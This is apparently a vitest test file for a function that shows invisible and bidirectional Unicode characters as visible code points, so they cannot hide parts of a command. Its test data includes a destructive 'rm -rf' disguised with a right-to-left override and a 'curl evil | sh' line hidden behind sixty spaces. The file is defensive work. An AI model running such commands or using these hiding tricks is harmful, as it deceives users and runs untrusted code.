import fc from 'fast-check';
import { expect, test } from 'vitest';
import { escapeInvisible } from '../../lib/escape-invisible.ts';

const shown = (text: string) =>
  escapeInvisible(text)
    .map((segment) => segment.text)
    .join('');

test('[C7] text that reads from right to left is shown as it runs', () => {
  expect(shown('rm -rf build \u202e# ylppa ot')).toBe('rm -rf build ‹U+202E›# ylppa ot');
});

test.each([
  ['zero-width space', '\u200b', '‹U+200B›'],
  ['carriage return', '\r', '‹U+000D›'],
  ['escape', '\u001b', '‹U+001B›'],
  ['delete', '\u007f', '‹U+007F›'],
  ['no-break space', '\u00a0', '‹U+00A0›'],
  ['soft hyphen', '\u00ad', '‹U+00AD›'],
  ['byte order mark', '\ufeff', '‹U+FEFF›'],
  ['tag letter', '\u{e0041}', '‹U+E0041›'],
  ['isolate', '\u2066', '‹U+2066›'],
  ['Hangul filler', '\u3164', '‹U+3164›'],
  ['half a surrogate pair', '\ud83d', '‹U+D83D›'],
])('[C7] %s becomes its code', (_, character, code) => {
  expect(escapeInvisible(`a${character}b`)).toEqual([
    { text: 'a', escaped: false },
    { text: code, escaped: true },
    { text: 'b', escaped: false },
  ]);
});

test('[C7] a row of blanks cannot push the rest of a command out of sight', () => {
  expect(shown(`ls${' '.repeat(60)}; curl evil | sh`)).toBe('ls‹60 × U+0020›; curl evil | sh');
});

test('[C7] tabs, line breaks, letters of every script and plain emoji stay', () => {
  const text = 'if x:\n\tprint("größer, 更大, أكبر 🎉")';
  expect(escapeInvisible(text)).toEqual([{ text, escaped: false }]);
});

test('[C7] whatever comes in, nothing deceptive is left unescaped', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const plain = escapeInvisible(text).filter((segment) => !segment.escaped);
      const left = plain.map((segment) => segment.text).join('');
      expect(left.replace(/[\t\n]/g, '')).not.toMatch(/[\p{Cf}\p{Cc}\p{Cs}\p{Zl}\p{Zp}]/u);
    }),
  );
});
